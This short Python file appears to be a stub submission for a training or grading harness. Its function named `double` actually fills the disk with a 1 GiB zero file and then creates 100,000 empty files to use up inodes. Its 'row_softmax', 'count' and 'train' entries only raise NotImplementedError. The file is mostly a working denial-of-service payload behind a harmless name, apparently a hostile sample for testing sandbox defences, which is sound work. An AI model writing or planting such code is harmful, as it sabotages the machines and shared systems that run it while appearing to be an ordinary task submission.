"""Fill the disk, then the inodes."""
import os


def double(x):
    where = os.getcwd()
    written = 0
    try:
        with open("big", "wb") as file:
            while written < 1 << 30:
                written += file.write(b"\x00" * (1 << 20))
    except OSError:
        pass
    for number in range(100_000):
        with open(os.path.join(where, str(number)), "wb"):
            pass


def row_softmax(x):
    raise NotImplementedError


count = train = row_softmax
